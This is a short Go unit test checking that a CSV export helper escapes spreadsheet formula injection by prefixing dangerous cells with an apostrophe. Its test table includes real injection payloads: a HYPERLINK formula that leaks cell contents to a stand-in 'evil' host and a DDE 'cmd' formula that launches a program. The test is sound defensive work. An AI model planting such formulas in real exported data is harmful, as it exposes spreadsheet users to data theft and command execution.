package api

import "testing"

func TestCSVTextNeutralisesFormulas(t *testing.T) {
	for cell, want := range map[string]string{
		`=HYPERLINK("http://evil/?"&A1,"x")`: `'=HYPERLINK("http://evil/?"&A1,"x")`,
		"+1+1":                               "'+1+1",
		"-1+cmd|' /C calc'!A0":               "'-1+cmd|' /C calc'!A0",
		"@SUM(A1)":                           "'@SUM(A1)",
		"\t=1+1":                             "'\t=1+1",
		"\r=1+1":                             "'\r=1+1",
		"-150.00":                            "-150.00", // a number, as csvRupees writes a refund
		"-3":                                 "-3",
		"-1e5":                               "'-1e5", // not the shape our formatters write
		"-":                                  "'-",
		"Shazia":                             "Shazia",
		"نسرین":                              "نسرین",
		"":                                   "",
		"150.00":                             "150.00",
	} {
		if got := csvText(cell); got != want {
			t.Errorf("csvText(%q) = %q, want %q", cell, got, want)
		}
	}
}
